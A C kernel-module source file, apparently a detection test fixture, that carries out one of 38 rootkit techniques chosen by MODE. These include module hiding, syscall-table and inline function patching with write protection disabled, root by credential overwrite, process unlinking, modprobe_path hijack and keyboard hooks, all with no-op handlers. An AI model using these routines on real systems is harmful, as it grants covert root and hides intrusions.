/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Each module that includes this does one thing that rootkits do, by MODE, and nothing
 * else: nothing is stolen, opened or sent. For tests of outsight check, in guests of the lab.
 */
#include <linux/binfmts.h>
#include <linux/clocksource.h>
#include <linux/console.h>
#include <linux/cred.h>
#include <linux/dcache.h>
#include <linux/delay.h>
#include <linux/fs.h>
#include <linux/ftrace.h>
#include <linux/hw_breakpoint.h>
#include <linux/input.h>
#include <linux/interrupt.h>
#include <linux/keyboard.h>
#include <linux/kprobes.h>
#include <linux/kthread.h>
#include <linux/miscdevice.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/namei.h>
#include <linux/netdevice.h>
#include <linux/netfilter.h>
#include <linux/netfilter_ipv4.h>
#include <linux/net.h>
#include <linux/perf_event.h>
#include <linux/pid.h>
#include <linux/rtnetlink.h>
#include <linux/sched/signal.h>
#include <linux/slab.h>
#include <linux/tracepoint.h>
#include <linux/tty.h>
#include <linux/tty_driver.h>
#include <linux/uprobes.h>
#include <linux/version.h>
#include <net/dst_ops.h>
#include <net/neighbour.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("one trick of a rootkit, for a test");

#if LINUX_VERSION_CODE < KERNEL_VERSION(5, 11, 0)
typedef struct pt_regs callback_regs;
#define RECURSION FTRACE_OPS_FL_RECURSION_SAFE
#else
typedef struct ftrace_regs callback_regs;
#define RECURSION FTRACE_OPS_FL_RECURSION
#endif

static int victim;
module_param(victim, int, 0);

static unsigned long symbol(const char *name)
{
	static struct kprobe probe;
	unsigned long (*lookup)(const char *);

	probe.symbol_name = "kallsyms_lookup_name"; /* not exported since 5.7 */
	if (register_kprobe(&probe))
		return 0;
	lookup = (void *)probe.addr;
	unregister_kprobe(&probe);
	return lookup(name);
}

static void write_protect(int on)
{
	unsigned long cr0;

	asm volatile("mov %%cr0, %0" : "=r"(cr0));
	cr0 = on ? cr0 | X86_CR0_WP : cr0 & ~X86_CR0_WP;
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
}

static void hide_module(void)
{
	list_del_init(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
}

static struct task_struct *victim_task(void)
{
	return pid_task(find_vpid(victim), PIDTYPE_PID);
}

static int wait_for_ever(void *unused)
{
	while (!kthread_should_stop())
		msleep(500);
	return 0;
}

static unsigned int accept_all(void *p, struct sk_buff *skb, const struct nf_hook_state *state)
{
	return NF_ACCEPT;
}

static long do_nothing(const struct pt_regs *regs)
{
	return 0;
}

static int probe_nothing(struct kprobe *p, struct pt_regs *regs)
{
	return 0;
}

static int return_nothing(struct kretprobe_instance *instance, struct pt_regs *regs)
{
	return 0;
}

static void notrace trace_nothing(unsigned long ip, unsigned long parent, struct ftrace_ops *op, callback_regs *regs)
{
}

static void stop_nothing(struct perf_event *event, struct perf_sample_data *data, struct pt_regs *regs)
{
}

static int same_name(const struct dentry *dentry, unsigned int len, const char *str, const struct qstr *name)
{
	return len != name->len || memcmp(str, name->name, len);
}

static int take_no_key(struct notifier_block *block, unsigned long action, void *data)
{
	return NOTIFY_OK;
}

static int load_nothing(struct linux_binprm *program)
{
	return -ENOEXEC;
}

static void fork_nothing(void *data, struct task_struct *parent, struct task_struct *child)
{
}

static irqreturn_t handle_nothing(int irq, void *data)
{
	return IRQ_NONE;
}

static void take_no_event(struct input_handle *handle, unsigned int type, unsigned int code, int value)
{
}

static int connect_nothing(struct input_handler *handler, struct input_dev *device, const struct input_device_id *id)
{
	return -ENODEV;
}

static void disconnect_nothing(struct input_handle *handle)
{
}

#if MODE == 34 && LINUX_VERSION_CODE >= KERNEL_VERSION(6, 12, 0) /* before that the cloud kernels have none */
#include <linux/fprobe.h>

#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 14, 0)
typedef struct ftrace_regs probe_regs;
#else
typedef struct pt_regs probe_regs;
#endif

static int enter_nothing(struct fprobe *probe, unsigned long ip, unsigned long parent, probe_regs *regs, void *data)
{
	return 0;
}

static struct fprobe functions = { .entry_handler = enter_nothing };
#endif

#if MODE == 37 && LINUX_VERSION_CODE >= KERNEL_VERSION(6, 12, 0)
static int run_nothing(struct uprobe_consumer *probe, struct pt_regs *regs, __u64 *data)
{
	return 0;
}

static struct uprobe_consumer consumer;
#endif

/* a function pointer, where nothing calls it meanwhile */
static void exchange(void *at)
{
	if (at)
		*(void **)at = do_nothing;
}

static struct header_ops headers __maybe_unused;
static struct dentry_operations names __maybe_unused;
static struct address_space_operations pages __maybe_unused;
static struct vm_operations_struct areas __maybe_unused;
static struct net_proto_family family __maybe_unused;
static struct file_operations files __maybe_unused;
static struct tty_operations terminals __maybe_unused;
static struct notifier_block keys __maybe_unused = { .notifier_call = take_no_key };
static struct linux_binfmt format __maybe_unused = { .module = THIS_MODULE, .load_binary = load_nothing };
static const struct input_device_id all_devices[] __maybe_unused = { { .driver_info = 1 }, { } };
static struct input_handler handler __maybe_unused = { .name = "trick", .event = take_no_event, .connect = connect_nothing, .disconnect = disconnect_nothing, .id_table = all_devices };
static struct nf_hook_ops hook __maybe_unused = { .hook = accept_all, .pf = NFPROTO_IPV4, .hooknum = NF_INET_PRE_ROUTING, .priority = -300 };
static struct kprobe probe __maybe_unused = { .symbol_name = "vfs_read", .pre_handler = probe_nothing };
static struct kretprobe return_probe __maybe_unused = { .kp = { .symbol_name = "filldir64" }, .handler = return_nothing, .maxactive = 4 };
static struct ftrace_ops ops __maybe_unused = { .func = trace_nothing, .flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY | RECURSION };

static int __init trick_init(void)
{
	struct task_struct *t = victim_task();
	int keep = 0; /* loaded: 0, or an error where the trick needs no module any more */

#if MODE == 1 /* a thread of a module that hides */
	kthread_run(wait_for_ever, NULL, "kworker/9:9");
	hide_module();
#elif MODE == 2 /* a packet hook of a module that hides */
	nf_register_net_hook(&init_net, &hook);
	hide_module();
#elif MODE == 3 /* a probe of a module that hides */
	register_kprobe(&probe);
	hide_module();
#elif MODE == 4 /* a function traced, to be replaced, by a module that hides */
	ftrace_set_filter(&ops, "tcp4_seq_show", 13, 0);
	register_ftrace_function(&ops);
	hide_module();
#elif MODE == 5 /* a system call in the table */
	unsigned long *table = (void *)symbol("sys_call_table");

	write_protect(0);
	table[62] = (unsigned long)do_nothing;
	write_protect(1);
#elif MODE == 6 /* a jump in a function of the kernel, behind its place for tracing */
	unsigned char *f = (void *)symbol("udp4_seq_show");
	int distance = (unsigned char *)do_nothing - (f + 14);

	write_protect(0);
	f[9] = 0xe9;
	memcpy(f + 10, &distance, 4);
	write_protect(1);
#elif MODE == 7 /* root by writing into the credentials */
	struct cred *c = (struct cred *)t->cred;

	c->uid = c->euid = c->suid = c->fsuid = GLOBAL_ROOT_UID;
	c->cap_effective = c->cap_permitted = CAP_FULL_SET;
	keep = -EAGAIN;
#elif MODE == 8 /* root by borrowing the kernel's credentials */
	rcu_assign_pointer(t->real_cred, init_task.cred);
	rcu_assign_pointer(t->cred, init_task.cred);
	keep = -EAGAIN;
#elif MODE == 9 /* a process off the list */
	list_del_init(&t->tasks);
	keep = -EAGAIN;
#elif MODE == 10 /* what the kernel runs for a missing module */
	strcpy((char *)symbol("modprobe_path"), "/tmp/x");
	keep = -EAGAIN;
#elif MODE == 11 /* a probe of a module that does not hide */
	register_kretprobe(&return_probe);
#elif MODE == 12 /* root by credentials that the kernel makes, as commit_creds gives them */
	struct cred *made = prepare_kernel_cred(&init_task);

	if (made) {
		rcu_assign_pointer(t->real_cred, made);
		rcu_assign_pointer(t->cred, get_cred(made));
	}
	keep = -EAGAIN;
#elif MODE == 13 /* a copy of the interrupt table, which one processor uses */
	struct { u16 limit; u64 base; } __packed idtr;
	void *copy = (void *)__get_free_page(GFP_KERNEL);

	if (copy) {
		asm volatile("sidt %0" : "=m"(idtr));
		memcpy(copy, (void *)idtr.base, PAGE_SIZE);
		idtr.base = (u64)copy;
		asm volatile("lidt %0" : : "m"(idtr));
	}
	keep = -EAGAIN;
#elif MODE == 14 /* write protection left off, on one processor */
	write_protect(0);
	keep = -EAGAIN;
#elif MODE == 15 /* a breakpoint of the processor's that the kernel does not know */
	asm volatile("mov %0, %%db0" : : "r"(symbol("kernel_power_off")));
	asm volatile("mov %0, %%db7" : : "r"(0x402UL));
	keep = -EAGAIN;
#elif MODE == 16 /* a neighbour table's function in writable data */
	exchange(&((struct neigh_table *)symbol("arp_tbl"))->proxy_redo);
#elif MODE == 17 /* a function of routes */
	exchange(&((struct dst_ops *)symbol("ipv4_dst_ops"))->redirect);
#elif MODE == 18 /* a function of a clock, which has none there */
	exchange(&((struct clocksource *)symbol("clocksource_tsc"))->suspend);
#elif MODE == 19 /* a soft interrupt */
	exchange((void *)symbol("softirq_vec") + 8 * IRQ_POLL_SOFTIRQ);
#elif MODE == 20 /* a function of the console's */
	struct console *c = (void *)symbol("univ8250_console");

	exchange(&c->unblank);
#elif MODE == 21 /* the headers of a network device that is not its own */
	struct net_device *dev = dev_get_by_name(&init_net, "lo");

	if (dev) {
		headers = *dev->header_ops;
		headers.validate = (void *)do_nothing;
		dev->header_ops = &headers;
	}
#elif MODE == 22 /* names of a folder of a file system that is not its own */
	struct path path;

	if (!kern_path("/etc", 0, &path)) {
		names.d_compare = same_name;
		path.dentry->d_op = &names;
		path.dentry->d_flags |= DCACHE_OP_COMPARE;
	}
#elif MODE == 23 /* pages of a file of a file system that is not its own */
	struct path path;

	if (!kern_path("/trick23.ko", 0, &path)) { /* which nobody writes to */
		pages = *d_inode(path.dentry)->i_mapping->a_ops;
		d_inode(path.dentry)->i_mapping->a_ops = &pages;
	}
#elif MODE == 24 /* a breakpoint of the processor's, which the kernel knows */
	struct perf_event_attr attr;

	hw_breakpoint_init(&attr);
	attr.bp_addr = symbol("kernel_power_off");
	attr.bp_len = sizeof(long);
	attr.bp_type = HW_BREAKPOINT_X;
	register_wide_hw_breakpoint(&attr, stop_nothing, NULL);
#elif MODE == 25 /* a thread named as those of workqueues */
	kthread_run(wait_for_ever, NULL, "kworker/9:8");
#elif MODE == 26 /* memory of a process by a table of its own */
	struct vm_area_struct *area;

	if (t && t->mm) {
		mmap_read_lock(t->mm);
		area = find_vma(t->mm, t->mm->start_code);
		if (area && area->vm_ops) {
			areas = *area->vm_ops;
			area->vm_ops = &areas;
		}
		mmap_read_unlock(t->mm);
	}
#elif MODE == 27 /* how a process goes on after a signal */
	if (t)
		t->restart_block.fn = (void *)do_nothing;
#elif MODE == 28 /* who answers for the tables of neighbours */
	struct { void *doit, *dumpit; } **links = ((void **)symbol("rtnl_msg_handlers"))[PF_UNSPEC];

	if (links && links[RTM_GETNEIGHTBL - RTM_BASE])
		exchange(&links[RTM_GETNEIGHTBL - RTM_BASE]->dumpit);
#elif MODE == 29 /* who makes sockets for packets */
	const struct net_proto_family **families = (void *)symbol("net_families");

	if (families && families[PF_PACKET]) {
		family = *families[PF_PACKET];
		families[PF_PACKET] = &family;
	}
#elif MODE == 30 /* the driver of a device of the kernel's */
	struct miscdevice *device;

	list_for_each_entry(device, (struct list_head *)symbol("misc_list"), list) {
		if (!strcmp(device->name, "cpu_dma_latency")) {
			files = *device->fops;
			device->fops = &files;
			break;
		}
	}
#elif MODE == 31 /* every key, as keyloggers of tutorials take them */
	keep = register_keyboard_notifier(&keys);
#elif MODE == 32 /* every key, as a device of its own would take them */
	keep = input_register_handler(&handler);
#elif MODE == 33 /* every key, beside the driver of the keyboard */
	keep = request_irq(1, handle_nothing, IRQF_SHARED, "i8042", &victim);
#elif MODE == 34 /* a function probed by what kretprobes became */
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 12, 0)
	keep = register_fprobe(&functions, "filldir64", NULL);
#else
	keep = -EOPNOTSUPP;
#endif
#elif MODE == 35 /* every program that is started, before it is */
	__register_binfmt(&format, 1);
#elif MODE == 36 /* every process that is made */
	keep = tracepoint_probe_register((struct tracepoint *)symbol("__tracepoint_sched_process_fork"), fork_nothing, NULL);
#elif MODE == 37 /* a program, when it comes to an instruction */
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 12, 0)
	struct path path;

	consumer.handler = (void *)run_nothing; /* the last argument came with 6.13 */
	keep = kern_path("/trick37.ko", 0, &path) ?: PTR_ERR_OR_ZERO(uprobe_register(d_inode(path.dentry), 0x40, 0, &consumer));
#else
	keep = -EOPNOTSUPP;
#endif
#elif MODE == 38 /* what a terminal shows, by a copy of its driver's table */
	struct list_head *driver = (void *)symbol("tty_drivers");
	struct tty_driver *d;
	int i;

	list_for_each_entry(d, driver, tty_drivers)
		for (i = 0; d->ttys && i < d->num; i++)
			if (d->ttys[i] && !terminals.write) {
				terminals = *d->ttys[i]->ops;
				d->ttys[i]->ops = &terminals;
			}
	keep = terminals.write ? 0 : -ENOENT;
#endif
	(void)take_no_key, (void)load_nothing, (void)fork_nothing, (void)handle_nothing;
	(void)exchange, (void)stop_nothing, (void)same_name;
	(void)t, (void)symbol, (void)write_protect, (void)hide_module, (void)wait_for_ever, (void)accept_all;
	(void)return_nothing, (void)do_nothing, (void)probe_nothing, (void)trace_nothing;
	return keep;
}
module_init(trick_init);
